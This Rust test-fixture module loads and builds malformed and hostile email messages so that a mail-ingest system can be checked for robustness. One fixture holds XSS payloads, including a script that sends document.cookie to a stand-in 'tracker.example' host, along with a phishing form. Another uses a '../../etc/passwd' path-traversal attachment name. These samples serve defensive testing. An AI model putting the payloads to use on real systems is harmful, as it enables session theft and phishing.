//! Malformed and hostile messages: public samples copied into `tests/fixtures/mail/` (sources in
//! its `SOURCES.tsv`) plus messages built here that no public corpus has in a handy size (a
//! 5,000-line header, broken boundaries, unknown and lying charsets, scripts in HTML, NUL bytes,
//! truncated base64). Ingest must store every one of them and never stop.

use std::fs;
use std::path::{Path, PathBuf};

use anyhow::{Context, Result};

/// One malformed or hostile message and where it comes from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FixtureMessage {
    /// A stable name (`mime-malformed/deltachat-core/cp1252-html.eml`, `built/huge-header`).
    pub name: String,
    /// The raw bytes.
    pub raw: Vec<u8>,
}

/// The folder of copied public samples (`tests/fixtures/mail/` in the repository).
pub fn fixtures_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../tests/fixtures/mail")
}

/// Every malformed and hostile message: the copied samples (sorted by name), then the built
/// ones. Deterministic.
pub fn hostile_messages() -> Result<Vec<FixtureMessage>> {
    let root = fixtures_dir();
    let mut files = Vec::new();
    collect_eml(&root, &mut files).with_context(|| format!("reading {}", root.display()))?;
    files.sort();
    let mut out = Vec::new();
    for path in files {
        let name = path
            .strip_prefix(&root)
            .unwrap_or(&path)
            .to_string_lossy()
            .into_owned();
        out.push(FixtureMessage {
            name,
            raw: fs::read(&path)?,
        });
    }
    out.extend(built());
    Ok(out)
}

fn collect_eml(dir: &Path, out: &mut Vec<PathBuf>) -> Result<()> {
    for entry in fs::read_dir(dir)? {
        let path = entry?.path();
        if path.is_dir() {
            collect_eml(&path, out)?;
        } else if path.extension().is_some_and(|e| e == "eml") {
            out.push(path);
        }
    }
    Ok(())
}

fn built() -> Vec<FixtureMessage> {
    let mut out = Vec::new();
    let mut add = |name: &str, raw: Vec<u8>| {
        out.push(FixtureMessage {
            name: format!("built/{name}"),
            raw,
        })
    };

    let mut huge = String::from("From: flood@example.net\r\nTo: shop@example.test\r\nSubject: 5000 header lines\r\nMessage-ID: <huge-header@example.net>\r\n");
    for i in 0..5000 {
        huge.push_str(&format!("X-Filler-{i}: {}\r\n", "a".repeat(i % 70)));
    }
    huge.push_str("\r\nThe body after five thousand header lines.\r\n");
    add("huge-header", huge.into_bytes());

    add(
        "broken-boundary",
        b"From: buyer@example.net\r\nTo: shop@example.test\r\nSubject: broken boundary\r\nMessage-ID: <broken-boundary@example.net>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"abc\"\r\n\r\n--abc\r\nContent-Type: text/plain\r\n\r\nfirst part\r\n--abd\r\nContent-Type: text/html\r\n\r\n<p>never closed\r\n--ab"
            .to_vec(),
    );
    add(
        "unknown-charset",
        b"From: buyer@example.net\r\nTo: shop@example.test\r\nSubject: =?x-klingon?B?cUFwbGEh?=\r\nMessage-ID: <unknown-charset@example.net>\r\nContent-Type: text/plain; charset=x-klingon\r\n\r\nqapla\xff\xfe\r\n"
            .to_vec(),
    );
    add(
        "lying-charset",
        b"From: buyer@example.net\r\nTo: shop@example.test\r\nSubject: utf-8 that is not\r\nMessage-ID: <lying-charset@example.net>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\xc0\xc1 \xe9t\xe9 \x80\x81 \xf5\xf6\xf7\r\n"
            .to_vec(),
    );
    add(
        "script-html",
        b"From: \"Evil <script>alert(1)</script>\" <evil@example.net>\r\nTo: shop@example.test\r\nSubject: <img src=x onerror=alert(1)>\r\nMessage-ID: <script-html@example.net>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><head><script>fetch('https://tracker.example/steal?c='+document.cookie)</script><meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\"></head><body onload=\"alert(2)\"><a href=\"javascript:alert(3)\">track order</a><img src=\"https://tracker.example/pixel.gif\"><iframe src=\"data:text/html,<script>alert(4)</script>\"></iframe><svg><script>alert(5)</script></svg><form action=\"https://phish.example\"><input name=pw></form></body></html>\r\n"
            .to_vec(),
    );
    add(
        "nul-bytes",
        b"From: buyer@example.net\r\nTo: shop@example.test\r\nSubject: nul\x00bytes\r\nMessage-ID: <nul-bytes@example.net>\r\n\r\nbody with \x00 a nul and \x1b[31m escape\r\n"
            .to_vec(),
    );
    add(
        "truncated-base64",
        b"From: buyer@example.net\r\nTo: shop@example.test\r\nSubject: truncated attachment\r\nMessage-ID: <truncated-base64@example.net>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b1\r\n\r\n--b1\r\nContent-Type: text/plain\r\n\r\nsee photo\r\n--b1\r\nContent-Type: image/png; name=photo.png\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"../../etc/passwd\"\r\n\r\niVBORw0KGgoAAAANSUhEUgAAAAEAAAAB!!!@@@\r\n"
            .to_vec(),
    );
    add(
        "no-headers",
        b"just a line of text with no header block at all\r\n".to_vec(),
    );
    add(
        "raw-8bit-headers",
        "From: Müller Jürgen <jm@example.de>\r\nTo: shop@example.test\r\nSubject: Bestellung 注文 заказ\r\nMessage-ID: <raw-8bit@example.de>\r\n\r\nUnencoded 8-bit header text.\r\n"
            .as_bytes()
            .to_vec(),
    );
    add("deep-nesting", {
        let mut s = String::from("From: buyer@example.net\r\nTo: shop@example.test\r\nSubject: deep nesting\r\nMessage-ID: <deep-nesting@example.net>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b0\r\n\r\n");
        for i in 0..200 {
            s.push_str(&format!(
                "--b{i}\r\nContent-Type: multipart/mixed; boundary=b{}\r\n\r\n",
                i + 1
            ));
        }
        s.push_str("--b200\r\nContent-Type: text/plain\r\n\r\nbottom\r\n");
        for i in (0..=200).rev() {
            s.push_str(&format!("--b{i}--\r\n"));
        }
        s.into_bytes()
    });
    add(
        "duplicate-message-id",
        b"From: buyer@example.net\r\nTo: shop@example.test\r\nSubject: same Message-ID as script-html\r\nMessage-ID: <script-html@example.net>\r\n\r\nA different message reusing another's Message-ID.\r\n"
            .to_vec(),
    );
    out
}
